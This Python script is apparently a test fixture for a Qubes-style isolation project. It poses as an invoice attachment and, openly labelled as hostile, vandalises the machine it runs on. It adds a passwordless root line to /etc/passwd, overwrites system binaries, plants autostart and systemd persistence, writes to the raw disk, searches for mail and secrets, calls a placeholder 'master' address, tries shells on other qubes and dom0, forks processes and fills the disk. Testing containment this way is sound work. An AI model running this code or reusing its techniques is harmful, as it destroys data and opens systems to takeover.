#!/usr/bin/env python3
# The hostile attachment of the e-mail scenario. It really does what it says, to the machine it is opened on: DO NOT RUN
# IT OUTSIDE A DISPOSABLE QUBE. It looks like an invoice, then it writes to home, /etc and /usr, plants a service, looks
# for other qubes' data, calls its master, asks other qubes to run commands, forks processes and fills the disk.

import contextlib
import errno
import hashlib
import os
import socket
import subprocess
import sys
import threading
import time

MARK = hashlib.sha256(b"cloison e-mail scenario").hexdigest().encode()  # what is searched for on the host afterwards
FILL_BYTES = 64 << 20
CHILDREN = 50
MASTER = ("192.0.2.1", 443)  # an address that documentation may use
CARD_LIMIT_S = 20
"""A network card may come moments after the start of a qube: who is hostile has time."""
CALLS_HOME = 5


def report(what, result):
    print(f"harm: {what}: {result}", flush=True)


def tried(action):
    """What the action managed, or why not."""
    try:
        return action()
    except Exception as error:
        return f"failed ({error.strerror if isinstance(error, OSError) and error.strerror else error})"


def plant(path, content):
    def write():
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "ab") as file:
            file.write(content + b"\n# " + MARK + b"\n")
        return "done"

    return tried(write)


def vandalise_home():
    home = os.path.expanduser("~")
    report("write to home", plant(f"{home}/.bashrc", b"echo owned"))
    report("write to autostart", plant(f"{home}/.config/autostart/owned.desktop", b"[Desktop Entry]"))


def vandalise_system():
    """As root if sudo lets us, which it does: inside a qube root protects nothing, the qube's wall does."""
    report("become root", "done" if os.geteuid() == 0 else "failed")
    report("write to /etc", plant("/etc/passwd", b"owned::0:0::/root:/bin/bash"))
    report("write to /usr", plant("/usr/bin/whoami", b"echo owned"))
    report("plant a service", plant("/etc/systemd/system/owned.service", b"[Service]\nExecStart=/bin/true"))

    def scribble():
        with open("/dev/vda", "r+b") as disk:
            disk.seek(-4096, os.SEEK_END)
            disk.write(MARK.ljust(4096, b"!"))
            os.fsync(disk.fileno())
        return "done"

    report("write to the raw root disk", tried(scribble))


def look_for_others():
    disks = sorted(name for name in os.listdir("/sys/block") if name.startswith("vd"))
    report("disks in reach", " ".join(disks))
    homes = [name for name in os.listdir("/home") if name not in ("user", "lost+found")]
    report("homes of others", " ".join(homes) or "none found")
    letters = []
    for _, _, files in os.walk("/home"):
        letters += [name for name in files if name.endswith((".mbox", ".secret"))]
    report("mail and secrets in reach", " ".join(letters) or "none found")


class CallingHome(threading.Thread):
    """Calls its master beside all else, once a second, as soon as there is a network to call through."""

    def __init__(self):
        super().__init__(daemon=True)
        self.outcome = ""

    def run(self):
        deadline, refused = time.monotonic() + CARD_LIMIT_S, 0
        while refused < CALLS_HOME:
            try:
                with socket.create_connection(MASTER, timeout=2):
                    self.outcome = "done"
                    return
            except OSError as error:
                if error.errno == errno.ENETUNREACH:
                    self.outcome = f"failed ({error.strerror})"
                    if time.monotonic() > deadline:
                        return
                    time.sleep(0.2)
                    continue
                refused += 1
                self.outcome = f"failed ({error.strerror or error}, {refused} times)"
            time.sleep(1)

    def report(self):
        self.join()
        links = [name for name in os.listdir("/sys/class/net") if name != "lo"]
        report("network interfaces", " ".join(links) or "none found")
        report("call home", self.outcome)


def ask_other_qubes():
    for target, service in (("work", "qubes.VMShell"), ("vault", "qubes.VMShell"), ("dom0", "admin.vm.List")):
        command = ["qrexec-client-vm", target, service]
        try:
            result = subprocess.run(command, input=b"id\n", capture_output=True, timeout=30)
            outcome = "done" if result.returncode == 0 else f"failed (refused, status {result.returncode})"
        except (OSError, subprocess.TimeoutExpired) as error:
            outcome = f"failed ({error})"
        report(f"{service} on {target}", outcome)


def fork_processes():
    count = 0
    for _ in range(CHILDREN):
        if os.fork() == 0:
            with contextlib.suppress(OSError):
                os.setsid()
            for descriptor in range(3):
                os.close(descriptor)
            time.sleep(3600)
            os._exit(0)
        count += 1
    report("leave processes behind", f"done ({count})")


def fill_disk():
    block, written = (MARK * 16384)[: 1 << 20], 0

    def fill():
        nonlocal written
        with open(os.path.expanduser("~/.filler"), "wb") as file:
            while written < FILL_BYTES:
                written += file.write(block)
            os.fsync(file.fileno())

    tried(fill)
    report("fill the disk", f"done ({written >> 20} MiB)")


def main():
    if "--as-root" in sys.argv:
        vandalise_system()
        return
    print("INVOICE 2291\n\n  4 pallets of terracotta pots    4,812.00 EUR\n  payable within 14 days\n", flush=True)
    report("host name", socket.gethostname())
    calling = CallingHome()
    calling.start()
    vandalise_home()
    if subprocess.run(["sudo", "-n", sys.executable, os.path.abspath(__file__), "--as-root"]).returncode != 0:
        vandalise_system()
    look_for_others()
    ask_other_qubes()
    fill_disk()
    calling.report()
    fork_processes()


if __name__ == "__main__":
    main()
